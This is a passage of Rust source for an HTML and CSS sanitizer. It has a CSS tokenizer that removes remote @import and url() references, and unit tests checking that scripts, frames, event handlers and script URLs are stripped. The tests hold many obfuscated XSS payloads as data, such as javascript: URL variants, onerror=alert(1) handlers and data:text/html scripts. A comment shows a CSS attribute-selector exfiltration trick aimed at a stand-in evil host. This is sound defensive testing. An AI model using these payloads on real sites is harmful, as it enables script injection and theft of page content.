/// A URL or name fit for a warning: no control characters, at most 100 characters.
fn shown(s: &str) -> String {
    let mut out: String =
        s.chars().take(100).map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect();
    if s.chars().nth(100).is_some() {
        out.push('…');
    }
    out
}

#[derive(Debug, Default)]
struct Warnings {
    list: Vec<String>,
    more: usize,
}

impl Warnings {
    /// Record a warning; the message is only built while under the cap.
    fn push(&mut self, message: impl FnOnce() -> String) {
        if self.list.len() < MAX_WARNINGS {
            self.list.push(message());
        } else {
            self.more += 1;
        }
    }

    fn finish(mut self) -> Vec<String> {
        if self.more > 0 {
            self.list.push(format!("… and {} more", self.more));
        }
        self.list
    }
}

// ---------------------------------------------------------------------------------------------
// CSS

/// True when `css` has nothing [`sanitize_css`] would remove.
pub(super) fn css_is_clean(css: &str) -> bool {
    matches!(sanitize_css(css, false, &mut Warnings::default()), Cow::Borrowed(_))
}

/// Remove remote references from CSS: drop `@import` rules that are not same-site, replace
/// `url()`/`src()` (and strings in `image-set()`/`image()`) that are neither same-site nor
/// `data:` images/fonts with `none`. With `in_style_element`, also make sure no `<` is left,
/// so the text cannot close its `<style>` (escaped as `\3c `, which CSS reads as `<`).
fn sanitize_css<'a>(css: &'a str, in_style_element: bool, w: &mut Warnings) -> Cow<'a, str> {
    let tokens: Vec<Token> = Lexer { s: css, b: css.as_bytes(), i: 0 }.collect();
    let mut edits: Vec<(usize, usize, Cow<'static, str>)> = Vec::new();
    let mut blocks: Vec<Block> = Vec::new();
    // Where an `@font-face` rule starts, until its block opens.
    let mut font_face: Option<usize> = None;
    let mut k = 0;
    while k < tokens.len() {
        let t = &tokens[k];
        let edits_before = edits.len();
        match &t.kind {
            Tok::AtKeyword(name) if name.eq_ignore_ascii_case("font-face") => {
                font_face = Some(t.start);
            }
            Tok::Ident
                if css[t.start..t.end].eq_ignore_ascii_case("font-family")
                    && match blocks.last() {
                        Some(b) => b.close == b'}' && b.rule.is_none(),
                        // A style="" declaration list (a stylesheet has its rules in blocks).
                        None => !css.contains('{'),
                    } =>
            {
                // A web font that was removed (or never loads) must not leave the text in the
                // browser's default serif: end every family list with a system stack.
                if let Some(at) = font_family_without_fallback(css, &tokens, k) {
                    edits.push((at, at, Cow::Borrowed(", system-ui, sans-serif")));
                }
            }
            Tok::AtKeyword(name) if name == "import" => {
                let (last, url) = import_extent(&tokens, k);
                if !url.as_deref().is_some_and(|u| css_url_allowed(u, true)) {
                    // SECURITY: a remote @import pulls in third-party CSS (and its url()s).
                    let url = url.map(|u| shown(&classify_url(&u).1)).unwrap_or_default();
                    w.push(|| format!("removed remote @import {url}"));
                    let end = tokens.get(last).map_or(css.len(), |t| t.end);
                    edits.push((t.start, end, Cow::Borrowed("")));
                    k = last + 1;
                    continue;
                }
            }
            // SECURITY: remote url()s leak visits; with attribute selectors they exfiltrate page
            // content (input[value^=a]{background:url(//evil/a)}).
            Tok::Url(url) if !css_url_allowed(url, false) => {
                warn_css_url(w, url);
                edits.push((t.start, t.end, Cow::Borrowed("none")));
            }
            Tok::BadUrl => {
                // Browsers ignore it; make that obvious.
                w.push(|| "removed malformed url()".into());
                edits.push((t.start, t.end, Cow::Borrowed("none")));
            }
            Tok::Function(name) => blocks.push(Block {
                close: b')',
                function: name.clone(),
                start: t.start,
                kill: false,
                rule: None,
            }),
            Tok::Open(open) => {
                let close = match open {
                    b'(' => b')',
                    b'[' => b']',
                    _ => b'}',
                };
                let rule =
                    if close == b'}' { font_face.take().map(|at| (at, false)) } else { None };
                blocks.push(Block {
                    close,
                    function: String::new(),
                    start: t.start,
                    kill: false,
                    rule,
                });
            }
            Tok::Close(c) => {
                // A closer that does not match the innermost block is an ordinary token.
                if blocks.last().is_some_and(|b| b.close == *c)
                    && let Some(block) = blocks.pop()
                {
                    if block.kill {
                        edits.push((block.start, t.end, Cow::Borrowed("none")));
                    }
                    if let Some((at, true)) = block.rule {
                        // `src: none` is not valid, and the face is useless without its font:
                        // text falls back to the next family in font-family.
                        w.push(|| "removed an @font-face rule left without a font".into());
                        edits.push((at, t.end, Cow::Borrowed("")));
                    }
                }
            }
            Tok::Semicolon if blocks.is_empty() => font_face = None,
            Tok::Str(url) if !css_url_allowed(url, false) => match blocks.last_mut() {
                Some(b) if matches!(b.function.as_str(), "url" | "src") => {
                    if !b.kill {
                        warn_css_url(w, url);
                    }
                    b.kill = true;
                }
                Some(b) if IMAGE_FUNCTIONS.contains(&b.function.as_str()) => {
                    warn_css_url(w, url);
                    edits.push((t.start, t.end, Cow::Borrowed("none")));
                }
                _ => {}
            },
            _ => {}
        }
        let replaced = edits.len() > edits_before;
        if (replaced || blocks.last().is_some_and(|b| b.kill))
            && let Some(rule) = blocks.iter_mut().rev().find_map(|b| b.rule.as_mut())
        {
            rule.1 = true;
        }
        if in_style_element && !replaced && css.as_bytes()[t.start..t.end].contains(&b'<') {
            // SECURITY: `</style` in the text would end the element and start HTML (it
            // can even appear by our own removals: `</sty@import url(//x);le>`).
            let safe = match t.kind {
                Tok::Delim(_) | Tok::Cdo => Cow::Borrowed(" "),
                _ => Cow::Owned(escape_lt_in_css(&css[t.start..t.end])),
            };
            edits.push((t.start, t.end, safe));
        }
        k += 1;
    }
    // An unterminated url("…") runs to the end of the input.
    for block in blocks.into_iter().filter(|b| b.kill) {
        edits.push((block.start, css.len(), Cow::Borrowed("none")));
    }
    if edits.is_empty() {
        return Cow::Borrowed(css);
    }
    // Outer edits first; edits inside an applied one are already covered by it.
    edits.sort_by(|a, b| a.0.cmp(&b.0).then(b.1.cmp(&a.1)));
    let mut out = String::with_capacity(css.len());
    let mut pos = 0;
    for (start, end, with) in edits {
        if start < pos {
            continue;
        }
        out.push_str(&css[pos..start]);
        out.push_str(&with);
        pos = end;
    }
    out.push_str(&css[pos..]);
    if in_style_element && out.contains('<') {
        // Not expected (every token holding `<` was rewritten), but this is the invariant.
        out = out.replace('<', "\\3c ");
    }
    Cow::Owned(out)
}

/// Generic families: a list that names one never falls back to the browser's default.
const GENERIC_FAMILIES: &[&str] = &[
    "serif",
    "sans-serif",
    "monospace",
    "cursive",
    "fantasy",
    "system-ui",
    "ui-serif",
    "ui-sans-serif",
    "ui-monospace",
    "ui-rounded",
    "math",
    "emoji",
    "fangsong",
    "inherit",
    "initial",
    "unset",
    "revert",
    "revert-layer",
];

/// For the `font-family` declaration whose name is token `at`: where to append a system
/// stack, if its value names no generic family (and uses no `var()`, whose value we cannot
/// see).
fn font_family_without_fallback(css: &str, tokens: &[Token], at: usize) -> Option<usize> {
    let mut i = at + 1;
    while tokens.get(i).is_some_and(|t| matches!(t.kind, Tok::Whitespace | Tok::Comment)) {
        i += 1;
    }
    if !matches!(tokens.get(i)?.kind, Tok::Colon) {
        return None;
    }
    let mut end = None;
    let mut named = false;
    for t in &tokens[i + 1..] {
        match &t.kind {
            Tok::Semicolon | Tok::Close(b'}') => break,
            Tok::Delim(b'!') => break,
            // A second declaration without a `;` in between: malformed, left alone (and the
            // scan stays linear).
            Tok::Colon => return None,
            Tok::Function(_) | Tok::Open(_) | Tok::BadStr | Tok::BadUrl => return None,
            Tok::Ident => {
                let word = &css[t.start..t.end];
                if GENERIC_FAMILIES.iter().any(|g| word.eq_ignore_ascii_case(g)) {
                    return None;
                }
                named = true;
                end = Some(t.end);
            }
            Tok::Str(_) => {
                named = true;
                end = Some(t.end);
            }
            Tok::Whitespace | Tok::Comment => {}
            _ => end = Some(t.end),
        }
    }
    end.filter(|_| named)
}

/// CSS functions whose string arguments are fetched as URLs.
const IMAGE_FUNCTIONS: &[&str] = &["image-set", "-webkit-image-set", "image", "-webkit-image"];

struct Block {
    close: u8,
    /// Lowercased function name, empty for a plain block.
    function: String,
    start: usize,
    /// Replace the whole function with `none` when it closes.
    kill: bool,
    /// For an `@font-face` block: where the rule starts, and whether a URL in it was removed
    /// (then the whole rule goes when the block closes).
    rule: Option<(usize, bool)>,
}

fn warn_css_url(w: &mut Warnings, url: &str) {
    let (kind, url) = classify_url(url);
    w.push(|| format!("removed {} url() {}", kind.label(), shown(&url)));
}

/// Same-site URLs always; `data:` images and fonts too, except for `@import`.
fn css_url_allowed(url: &str, import: bool) -> bool {
    let (kind, url) = classify_url(url);
    match kind {
        UrlKind::Relative => true,
        UrlKind::Scheme(s) if s == "data" && !import => {
            let url = url.to_ascii_lowercase();
            ["data:image/", "data:font/", "data:application/font", "data:application/x-font"]
                .iter()
                .any(|p| url.starts_with(p))
        }
        _ => false,
    }
}

/// The index of the last token of the `@import` rule at `at`, and its URL if it has one.
fn import_extent(tokens: &[Token], at: usize) -> (usize, Option<String>) {
    let mut url = None;
    let mut depth = 0u32;
    let mut in_url_function = false;
    for (k, t) in tokens.iter().enumerate().skip(at + 1) {
        match &t.kind {
            Tok::Semicolon if depth == 0 => return (k, url),
            Tok::Open(_) | Tok::Function(_) => {
                // A block ends the (then invalid) rule when it closes.
                depth += 1;
                in_url_function =
                    depth == 1 && matches!(&t.kind, Tok::Function(f) if f == "url" || f == "src");
            }
            Tok::Close(c) => {
                depth = depth.saturating_sub(1);
                if depth == 0 && *c == b'}' {
                    return (k, url);
                }
            }
            Tok::Url(u) if url.is_none() && depth == 0 => url = Some(u.clone()),
            Tok::Str(u) if url.is_none() && (depth == 0 || (depth == 1 && in_url_function)) => {
                url = Some(u.clone());
            }
            _ => {}
        }
    }
    (tokens.len(), url)
}

/// Rewrite every `<` in a token's source as the escape `\3c ` (which CSS reads as `<`).
fn escape_lt_in_css(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len() + 8);
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('<') => out.push_str("\\3c "),
                Some(next) => {
                    out.push('\\');
                    out.push(next);
                }
                None => out.push('\\'),
            },
            '<' => out.push_str("\\3c "),
            c => out.push(c),
        }
    }
    out
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Whitespace,
    Comment,
    /// A string token, unescaped.
    Str(String),
    BadStr,
    /// An unquoted `url(…)` token, unescaped.
    Url(String),
    BadUrl,
    /// A function token: lowercased, unescaped name.
    Function(String),
    Ident,
    /// Lowercased, unescaped name.
    AtKeyword(String),
    Hash,
    Number,
    Delim(u8),
    Open(u8),
    Close(u8),
    Semicolon,
    Colon,
    Comma,
    Cdo,
    Cdc,
}

#[derive(Debug)]
struct Token {
    kind: Tok,
    start: usize,
    end: usize,
}

/// A CSS Syntax Level 3 tokenizer, as far as finding `url(`s and `@import`s requires; names
/// are unescaped the way browsers do (`\75 rl(` is `url(`).
struct Lexer<'a> {
    s: &'a str,
    b: &'a [u8],
    i: usize,
}

impl Iterator for Lexer<'_> {
    type Item = Token;

    fn next(&mut self) -> Option<Token> {
        let start = self.i;
        let c = *self.b.get(start)?;
        let kind = match c {
            b'/' if self.at(1) == Some(b'*') => {
                self.i = match self.s[start + 2..].find("*/") {
                    Some(p) => start + 2 + p + 2,
                    None => self.b.len(),
                };
                Tok::Comment
            }
            b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' => {
                while self.at(0).is_some_and(is_css_whitespace) {
                    self.i += 1;
                }
                Tok::Whitespace
            }
            b'"' | b'\'' => self.string(c),
            b'#' => {
                self.i += 1;
                if self.at(0).is_some_and(is_name) || self.valid_escape(self.i) {
                    self.name();
                    Tok::Hash
                } else {
                    Tok::Delim(c)
                }
            }
            b'(' | b'[' | b'{' => {
                self.i += 1;
                Tok::Open(c)
            }
            b')' | b']' | b'}' => {
                self.i += 1;
                Tok::Close(c)
            }
            b'+' | b'.' if self.starts_number(start) => self.number(),
            b'-' if self.starts_number(start) => self.number(),
            b'-' if self.at(1) == Some(b'-') && self.at(2) == Some(b'>') => {
                self.i += 3;
                Tok::Cdc
            }
            b'-' | b'\\' if self.starts_ident(start) => self.ident_like(),
            b'0'..=b'9' => self.number(),
            b'<' if self.b[start..].starts_with(b"<!--") => {
                self.i += 4;
                Tok::Cdo
            }
            b'@' => {
                self.i += 1;
                if self.starts_ident(self.i) {
                    Tok::AtKeyword(self.name().to_ascii_lowercase())
                } else {
                    Tok::Delim(c)
                }
            }
            b',' | b':' | b';' => {
                self.i += 1;
                match c {
                    b',' => Tok::Comma,
                    b':' => Tok::Colon,
                    _ => Tok::Semicolon,
                }
            }
            c if is_name_start(c) => self.ident_like(),
            _ => {
                self.i += 1;
                Tok::Delim(c)
            }
        };
        Some(Token { kind, start, end: self.i })
    }
}

fn is_css_whitespace(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
}

fn is_newline(c: u8) -> bool {
    matches!(c, b'\n' | b'\r' | b'\x0c')
}

/// ASCII letters, `_`, any non-ASCII byte (a whole UTF-8 sequence is non-ASCII), NUL (U+FFFD).
fn is_name_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 || c == 0
}

fn is_name(c: u8) -> bool {
    is_name_start(c) || c.is_ascii_digit() || c == b'-'
}

impl Lexer<'_> {
    fn at(&self, offset: usize) -> Option<u8> {
        self.b.get(self.i + offset).copied()
    }

    fn valid_escape(&self, i: usize) -> bool {
        self.b.get(i) == Some(&b'\\') && !self.b.get(i + 1).is_some_and(|&c| is_newline(c))
    }

    fn starts_ident(&self, i: usize) -> bool {
        match self.b.get(i) {
            Some(b'-') => {
                self.b.get(i + 1).is_some_and(|&c| is_name_start(c) || c == b'-')
                    || self.valid_escape(i + 1)
            }
            Some(b'\\') => self.valid_escape(i),
            Some(&c) => is_name_start(c),
            None => false,
        }
    }

    fn starts_number(&self, i: usize) -> bool {
        let digit = |k: usize| self.b.get(k).is_some_and(u8::is_ascii_digit);
        match self.b.get(i) {
            Some(b'+' | b'-') => digit(i + 1) || (self.b.get(i + 1) == Some(&b'.') && digit(i + 2)),
            Some(b'.') => digit(i + 1),
            Some(c) => c.is_ascii_digit(),
            None => false,
        }
    }

    /// Consume an escape (at `\`), appending the code point it stands for.
    fn escape(&mut self, out: &mut Vec<u8>) {
        self.i += 1;
        let Some(c) = self.at(0) else {
            push_char(out, '\u{fffd}');
            return;
        };
        if c.is_ascii_hexdigit() {
            let mut value = 0u32;
            let mut n = 0;
            while n < 6
                && let Some(d) = self.at(0).and_then(|c| char::from(c).to_digit(16))
            {
                value = value * 16 + d;
                self.i += 1;
                n += 1;
            }
            if self.at(0) == Some(b'\r') && self.at(1) == Some(b'\n') {
                self.i += 2;
            } else if self.at(0).is_some_and(is_css_whitespace) {
                self.i += 1;
            }
            let ch = match value {
                0 => '\u{fffd}',
                v => char::from_u32(v).unwrap_or('\u{fffd}'),
            };
            push_char(out, ch);
        } else {
            let ch = self.s[self.i..].chars().next().unwrap_or('\u{fffd}');
            self.i += ch.len_utf8();
            push_char(out, ch);
        }
    }

    /// Consume a name, unescaped.
    fn name(&mut self) -> String {
        let mut out = Vec::new();
        loop {
            match self.at(0) {
                Some(c) if is_name(c) => {
                    out.push(c);
                    self.i += 1;
                }
                Some(b'\\') if self.valid_escape(self.i) => self.escape(&mut out),
                _ => break,
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }

    fn number(&mut self) -> Tok {
        if matches!(self.at(0), Some(b'+' | b'-')) {
            self.i += 1;
        }
        let digits = |lx: &mut Self| {
            while lx.at(0).is_some_and(|c| c.is_ascii_digit()) {
                lx.i += 1;
            }
        };
        digits(self);
        if self.at(0) == Some(b'.') && self.at(1).is_some_and(|c| c.is_ascii_digit()) {
            self.i += 1;
            digits(self);
        }
        if matches!(self.at(0), Some(b'e' | b'E')) {
            let sign = usize::from(matches!(self.at(1), Some(b'+' | b'-')));
            if self.at(1 + sign).is_some_and(|c| c.is_ascii_digit()) {
                self.i += 1 + sign;
                digits(self);
            }
        }
        // A unit is part of the token: `1url(` is a dimension, not a function.
        if self.starts_ident(self.i) {
            self.name();
        } else if self.at(0) == Some(b'%') {
            self.i += 1;
        }
        Tok::Number
    }

    fn ident_like(&mut self) -> Tok {
        let name = self.name().to_ascii_lowercase();
        if self.at(0) != Some(b'(') {
            return Tok::Ident;
        }
        self.i += 1;
        if name == "url" {
            let after_paren = self.i;
            while self.at(0).is_some_and(is_css_whitespace) {
                self.i += 1;
            }
            if matches!(self.at(0), Some(b'"' | b'\'')) {
                // url("…") is a function holding a string, like any other.
                self.i = after_paren;
            } else {
                return self.url();
            }
        }
        Tok::Function(name)
    }

    /// The rest of an unquoted `url(` token, whitespace after `(` already consumed.
    fn url(&mut self) -> Tok {
        let mut value = Vec::new();
        loop {
            match self.at(0) {
                None => break,
                Some(b')') => {
                    self.i += 1;
                    break;
                }
                Some(c) if is_css_whitespace(c) => {
                    while self.at(0).is_some_and(is_css_whitespace) {
                        self.i += 1;
                    }
                    match self.at(0) {
                        None => break,
                        Some(b')') => {
                            self.i += 1;
                            break;
                        }
                        Some(_) => return self.bad_url(),
                    }
                }
                Some(b'"' | b'\'' | b'(' | 0x01..=0x08 | 0x0b | 0x0e..=0x1f | 0x7f) => {
                    return self.bad_url();
                }
                Some(b'\\') if self.valid_escape(self.i) => self.escape(&mut value),
                Some(b'\\') => return self.bad_url(),
                Some(c) => {
                    value.push(c);
                    self.i += 1;
                }
            }
        }
        Tok::Url(String::from_utf8_lossy(&value).into_owned())
    }

    fn bad_url(&mut self) -> Tok {
        while let Some(c) = self.at(0) {
            if c == b')' {
                self.i += 1;
                break;
            }
            if self.valid_escape(self.i) {
                self.escape(&mut Vec::new());
            } else {
                self.i += 1;
            }
        }
        Tok::BadUrl
    }

    fn string(&mut self, quote: u8) -> Tok {
        self.i += 1;
        let mut value = Vec::new();
        loop {
            match self.at(0) {
                None => break,
                Some(c) if c == quote => {
                    self.i += 1;
                    break;
                }
                Some(c) if is_newline(c) => return Tok::BadStr,
                Some(b'\\') => match self.at(1) {
                    None => self.i += 1,
                    Some(b'\r') if self.at(2) == Some(b'\n') => self.i += 3,
                    Some(c) if is_newline(c) => self.i += 2,
                    Some(_) => self.escape(&mut value),
                },
                Some(c) => {
                    value.push(c);
                    self.i += 1;
                }
            }
        }
        Tok::Str(String::from_utf8_lossy(&value).into_owned())
    }
}

fn push_char(out: &mut Vec<u8>, c: char) {
    let mut buf = [0u8; 4];
    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    const BANNER: &str = "Prototype — expires on 2026-12-02";

    fn opts() -> PageOptions<'static> {
        PageOptions {
            lang: "en",
            dir: Direction::Ltr,
            banner: BANNER,
            title: "Fallback",
            ..PageOptions::default()
        }
    }

    fn banner_div(text: &str) -> String {
        format!(r#"<div class="pf-banner" role="note" data-pf-banner>{text}</div>"#)
    }

    /// Finalize with `opts`, and check what must hold for every output: the skeleton, the
    /// sanitizer invariants (re-parsed), and idempotency.
    fn fin_with(input: &str, opts: &PageOptions<'_>) -> Finalized {
        let out = finalize_html(input, opts).unwrap();
        assert_skeleton(&out.html, opts);
        let problems = audit(&out.html);
        assert!(problems.is_empty(), "{problems:?} in output of {input:?}:\n{}", out.html);
        let again = finalize_html(&out.html, opts).unwrap();
        assert_eq!(again.html, out.html, "not idempotent for {input:?}");
        assert!(again.warnings.is_empty(), "second run warned: {:?}", again.warnings);
        out
    }

    fn fin(input: &str) -> Finalized {
        fin_with(input, &opts())
    }

    fn has(out: &Finalized, warning: &str) -> bool {
        out.warnings.iter().any(|w| w == warning)
    }

    /// Doctype, html, head (charset, viewport, robots, title, banner style) and body with the
    /// banner first, each exactly once and in that order.
    fn assert_skeleton(html: &str, opts: &PageOptions<'_>) {
        assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
        let l = html.to_ascii_lowercase();
        let once = |needle: &str| {
            assert_eq!(l.matches(needle).count(), 1, "{needle} not exactly once in\n{html}");
            l.find(needle).unwrap()
        };
        assert_eq!(l.matches("<!doctype").count(), 1, "{html}");
        let html_tag = once(&format!(r#"<html lang="{}" dir="{}""#, opts.lang, opts.dir.as_str()));
        let head = once("<head>");
        let charset = once("<meta charset=");
        assert!(!l.contains("http-equiv=\"content-type"), "{html}");
        once(VIEWPORT_META);
        once(ROBOTS_META);
        let style = once("<style data-pf-banner>");
        let title = l.find("<title>").expect("a title");
        let body = l.find("<body").expect("a body");
        let body_end = body + l[body..].find('>').unwrap() + 1;
        let banner = once(r#"<div class="pf-banner""#);
        assert!(html_tag < head && head < charset && charset < style && style < body, "{html}");
        assert!(title < body && banner == body_end, "banner not first in body:\n{html}");
    }

    /// Re-parse finalized HTML and list every sanitizer invariant it breaks.
    fn audit(html: &str) -> Vec<String> {
        let problems = RefCell::new(Vec::new());
        let css = RefCell::new(String::new());
        let settings = lol_html::RewriteStrSettings::new()
            .append_element_content_handler(element!("*", |el| {
                let tag = match el.tag_name() {
                    t if t == "image" => "img".to_owned(),
                    t => t,
                };
                let mut p = problems.borrow_mut();
                let url =
                    |name: &str| el.get_attribute(name).map(|v| decode_entities(&v).into_owned());
                if tag == "math" || super::super::tree::FORBIDDEN.contains(&tag.as_str()) {
                    p.push(format!("<{tag}>"));
                }
                let relative =
                    |u: Option<String>| u.is_some_and(|u| classify_url(&u).0 == UrlKind::Relative);
                if tag == "script" && !relative(url("src")) {
                    p.push(format!("script {:?}", url("src")));
                }
                if tag == "link" && url("href").is_some() && !relative(url("href")) {
                    p.push(format!("link {:?}", url("href")));
                }
                if tag == "meta" && classify_meta(el) == Meta::Refresh {
                    p.push("meta refresh".into());
                }
                for a in el.attributes() {
                    if a.value().contains('<') {
                        p.push(format!("< in {} on <{tag}>", a.name()));
                    }
                    let (name, value) = (a.name(), decode_entities(&a.value()).into_owned());
                    if name.starts_with("on") {
                        p.push(format!("{name} on <{tag}>"));
                    }
                    let (kind, norm) = classify_url(&value);
                    if let Some(policy) = url_policy(&tag, &name)
                        && !policy.allows(&kind, &norm, &tag, &name)
                    {
                        p.push(format!("{name}={value} on <{tag}>"));
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(text!("style", |t| {
                css.borrow_mut().push_str(t.as_str());
                Ok(())
            }))
            .append_document_content_handler(doc_text!(|t| {
                // Kept scripts are empty; titles and textareas hold no `<`.
                let script = t.text_type() == TextType::ScriptData && !t.as_str().is_empty();
                if script || (t.text_type() == TextType::RCData && t.as_str().contains('<')) {
                    problems.borrow_mut().push(format!("raw text {:?}", t.as_str()));
                }
                if t.text_type() == TextType::CDataSection && !t.as_str().is_empty() {
                    problems.borrow_mut().push(format!("CDATA {:?}", t.as_str()));
                }
                Ok(())
            }))
            .append_document_content_handler(doc_comments!(|c| {
                if c.text().contains('<') {
                    problems.borrow_mut().push(format!("< in comment {:?}", c.text()));
                }
                Ok(())
            }));
        lol_html::rewrite_str(html, settings).unwrap();
        let mut problems = problems.into_inner();
        let css = css.into_inner();
        if css.contains('<') {
            problems.push("< in a <style>".into());
        }
        let leftover = finalize_css(&decode_entities(&css)).warnings;
        if !leftover.is_empty() {
            problems.push(format!("CSS: {leftover:?}"));
        }
        problems
    }

    // --- removals ------------------------------------------------------------------------

    #[test]
    fn external_scripts_are_removed_in_every_spelling() {
        for (input, warning) in [
            (
                r#"<script src="https://cdn.example/x.js"></script>"#,
                "removed external script https://cdn.example/x.js",
            ),
            (
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "removed external script //evil.example/x.js",
            ),
            (
                r#"<script src="/\evil.example/x.js"></script>"#,
                r"removed external script /\evil.example/x.js",
            ),
            (
                r#"<script src="http:evil.example/x.js"></script>"#,
                "removed external script http:evil.example/x.js",
            ),
            (
                r#"<script src=" data:text/javascript,alert(1)"></script>"#,
                "removed data: script data:text/javascript,alert(1)",
            ),
            (
                r#"<script src="JaVa&#x09;script:alert(1)"></script>"#,
                "removed javascript: script JaVascript:alert(1)",
            ),
            (r#"<svg><script href="x.js"></script></svg>"#, "removed SVG/MathML <script>"),
        ] {
            let out = fin(input);
            assert!(!out.html.to_ascii_lowercase().contains("<script"), "{}", out.html);
            assert!(has(&out, warning), "{input}: {:?}", out.warnings);
        }
    }

    #[test]
    fn same_site_scripts_are_kept() {
        let out = fin(r#"<p>x</p><script src="script.js" defer></script>"#);
        assert!(out.html.contains(r#"<script src="script.js" defer></script>"#));
        assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    }

    #[test]
    fn inline_scripts_are_removed_with_a_warning() {
        let out = fin("<p>x</p><script>alert(1)</script><script type=module>import('y')</script>");
        assert!(!out.html.contains("alert") && !out.html.contains("import"), "{}", out.html);
        let n = out.warnings.iter().filter(|w| w.starts_with("removed inline script")).count();
        assert_eq!(n, 2, "{:?}", out.warnings);
    }

    #[test]
    fn frames_objects_embeds_and_applets_are_removed() {
        let out = fin(concat!(
            r#"<p>x</p><iframe srcdoc="<script>alert(1)</script>">fallback</iframe>"#,
            r#"<IFRAME SRC="https://evil.example/"></IFRAME>"#,
            r#"<object data="https://evil.example/x.swf"><p>in object</p></object>"#,
            r#"<embed src="x.swf"><applet code="X.class"></applet>"#,
            r#"<portal src="https://evil.example/"></portal>"#,
        ));
        let l = out.html.to_ascii_lowercase();
        for left in ["<iframe", "<object", "<embed", "<applet", "<portal", "alert", "in object"] {
            assert!(!l.contains(left), "{left} left in {}", out.html);
        }
        assert!(has(&out, "removed <iframe> srcdoc"), "{:?}", out.warnings);
        assert!(has(&out, "removed <iframe> https://evil.example/"));
        assert!(has(&out, "removed <object> https://evil.example/x.swf"));
        assert!(has(&out, "removed <applet> X.class"));
        let frames = fin(r#"<frameset><frame src="https://evil.example/"></frameset>"#);
        assert!(!frames.html.contains("<frame"), "{}", frames.html);
    }

    #[test]
    fn inline_event_handlers_are_removed() {
        let out = fin(concat!(
            r#"<img src=x onerror=alert(1) alt=""><button OnClick="steal()">b</button>"#,
            r##"<svg/onload=alert(2)><a href="#top" onMouseOver='x()'><text>a</text></a></svg>"##,
            r#"<input autofocus onfocus=alert(3)><details open ontoggle=alert(4)></details>"#,
        ));
        assert!(!out.html.contains("alert") && !out.html.contains("steal"), "{}", out.html);
        for w in [
            "removed inline event handler onerror on <img>",
            "removed inline event handler onclick on <button>",
            "removed inline event handler onload on <svg>",
            "removed inline event handler onmouseover on <a>",
            "removed inline event handler onfocus on <input>",
            "removed inline event handler ontoggle on <details>",
        ] {
            assert!(has(&out, w), "{w}: {:?}", out.warnings);
        }
        let body = fin(r#"<body onload="alert(1)"><p>x</p></body>"#);
        assert!(has(&body, "removed inline event handler onload on <body>"));
    }

    #[test]
    fn script_urls_are_removed_however_obfuscated() {
        for href in [
            "javascript:alert(1)",
            " JaVa\tscript:alert(1)",
            "JAVASCRIPT:alert(1)",
            "java&#x09;script:alert(1)",
            "java&#9;script:alert(1)",
            "java&#x0A;script:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "&#0000106&#0000097vascript:alert(1)",
            "javascript&colon;alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "&#1;javascript:alert(1)",
            "\u{1}javascript:alert(1)",
            " \n javascript:alert(1) ",
            "vbscript:msgbox(1)",
            "VBScript&colon;msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:text/html,<script>alert(1)</script>",
        ] {
            let out = fin(&format!(r#"<a href="{href}">x</a>"#));
            assert!(out.html.contains("<a>x</a>"), "{href:?} kept:\n{}", out.html);
            assert_eq!(out.warnings.len(), 1, "{href:?}: {:?}", out.warnings);
        }
        let out = fin(r#"<a href="javascript:alert(1)">x</a>"#);
        assert_eq!(out.warnings, [r#"removed javascript: URL href="javascript:alert(1)" on <a>"#]);
    }

    #[test]
    fn safe_links_are_kept() {
        for href in [
            "https://example.com/a?b=1&amp;c=2",
            "//example.com/",
            "mailto:a@example.com",
            "tel:+431234",
            "#pf_main",
            "menu.html",
            "?q=1",
            "café.html",
        ] {
            let input = format!(r#"<a href="{href}">x</a>"#);
            let out = fin(&input);
            assert!(out.html.contains(&input), "{href:?} changed:\n{}", out.html);
            assert!(out.warnings.is_empty(), "{href:?}: {:?}", out.warnings);
        }
    }

    #[test]
    fn urls_are_written_as_browsers_read_them() {
        for (href, want) in [
            ("java script:x", "java%20script:x"),
            ("https://example.org/?q=\"><b>", "https://example.org/?q=%22%3E%3Cb%3E"),
            (" menu.html\n", "menu.html"),
            ("a|b{c}^d`e", "a%7Cb%7Bc%7D%5Ed%60e"),
            ("x?a=%zz&b=%41", "x?a=%25zz&amp;b=%41"),
        ] {
            let out = fin(&format!(r#"<a href="{}">x</a>"#, escape_html(href)));
            assert!(
                out.html.contains(&format!(r#"<a href="{want}">x</a>"#)),
                "{href:?}:\n{}",
                out.html
            );
        }
    }

    #[test]
    fn font_families_end_with_a_system_stack() {
        for (css, want) in [
            ("p{font-family:Inter}", "p{font-family:Inter, system-ui, sans-serif}"),
            (
                "p{font-family: \"Fancy Web\" , Arial !important;color:red}",
                "p{font-family: \"Fancy Web\" , Arial, system-ui, sans-serif !important;color:red}",
            ),
            ("p{font-family:Inter,serif}", "p{font-family:Inter,serif}"),
            ("p{font-family:var(--f)}", "p{font-family:var(--f)}"),
            (
                "@font-face{font-family:X;src:url(x.woff2)}",
                "@font-face{font-family:X;src:url(x.woff2)}",
            ),
            ("p{--font-family:Inter}", "p{--font-family:Inter}"),
        ] {
            let out = finalize_css(css);
            assert_eq!(out.css, want, "{css}");
            assert_eq!(finalize_css(&out.css).css, out.css, "stable: {css}");
        }
        assert_eq!(
            fin("<p style=\"font-family:Inter\">x</p>")
                .html
                .matches("system-ui, sans-serif")
                .count(),
            1
        );
    }

    #[test]
    fn references_stay_inside_the_site_and_relative_to_the_page() {
        let page = PageOptions { path: "docs/a.html", ..opts() };
        let out = fin_with(
            concat!(
                r#"<a href="/about">a</a><img src="/img/x.png" alt=""><img src="../../up.png" alt="">"#,
